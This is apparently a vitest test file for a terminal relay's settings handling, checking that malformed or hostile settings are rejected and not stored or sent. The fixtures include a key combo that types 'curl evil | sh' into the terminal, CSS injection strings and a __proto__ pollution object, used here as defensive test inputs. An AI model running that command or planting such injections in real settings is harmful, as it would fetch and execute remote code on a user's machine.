import { afterEach, beforeEach, describe, expect, test } from "vitest";

import { readSettings } from "../../src/session/relay_settings";
import { ObservedSession, TestBed } from "../support/test_bed";

const POISON = { id: "interrupt", label: "^C", sequence: "curl evil | sh<Enter>" };

describe("settings of a relay", () => {
  test("are colours and a size", () => {
    expect(readSettings({ theme: "nord", fontSize: 16, page: { palette: "nord", scheme: "dark" } })).toEqual({ theme: "nord", fontSize: 16, page: { palette: "nord", scheme: "dark" } });
  });

  test.each([
    null, 7, "text", [], { page: null }, { page: "x" }, { page: { combos: [POISON] } }, { combos: [POISON], keys: [POISON], keyBar: "one-row" },
    { fontSize: "16" }, { fontSize: -1 }, { fontSize: 1e9 }, { fontSize: Number.NaN }, { fontSize: 12.5 }, { theme: "x".repeat(41) }, { theme: "a b" },
    { theme: "x;background:url(//evil)" }, { fontFamily: "x; } * { display: none" }, { page: { palette: "<b>", scheme: "purple" } },
    { page: { palette: ["night"], scheme: { toString: 1 } } }, JSON.parse('{"__proto__": {"fontSize": 20}}'),
  ])("%j is none", (found) => expect(readSettings(found)).toEqual({}));
});

describe("a page", () => {
  let world: TestBed;
  let watched: ObservedSession;

  beforeEach(async () => {
    world = new TestBed();
    world.settings = { fontSize: 15, page: { palette: "nord", combos: [POISON] }, combos: [POISON], keyBar: "one-row" };
    watched = new ObservedSession(world);
    watched.session.open();
    await watched.session.pair(world.newLink());
    await world.settle();
  });
  afterEach(() => watched.session.close());

  test("takes nothing else from a relay, by either way, and keeps nothing else", async () => {
    expect(watched.session.settings).toEqual({ fontSize: 15, page: { palette: "nord" } });
    world.say("settings:updated", { fontSize: 16, page: { scheme: "light", combos: [POISON] }, combos: [POISON] });
    await world.settle();
    expect(watched.session.settings).toEqual({ fontSize: 16, page: { scheme: "light" } });
    expect(watched.session.ownKeys.list).toBeNull();
    expect(JSON.stringify([...world.storage!.kept])).not.toContain("evil");
  });

  test("does not use what an earlier version kept of a relay's settings", () => {
    world.storage!.kept.set("mobifai.1.settings", JSON.stringify({ page: { combos: [POISON], palette: "nord" } }));
    expect(new ObservedSession(world).session.settings).toEqual({ page: { palette: "nord" } });
  });

  test("sends nothing else there", async () => {
    await watched.session.putSettings({ fontSize: 17, page: { palette: "day", combos: [POISON] }, combos: [POISON] } as object);
    expect(world.saved).toEqual([{ fontSize: 17, page: { palette: "day" } }]);
  });

  test("is not filled by an answer without end", async () => {
    world.settings = { fontSize: 20, more: "x".repeat(1_000_000) };
    await watched.session.putSettings({ fontSize: 18 });
    expect(watched.session.settings).not.toHaveProperty("more");
    expect(watched.session.settings.fontSize).not.toBe(20);
  });
});
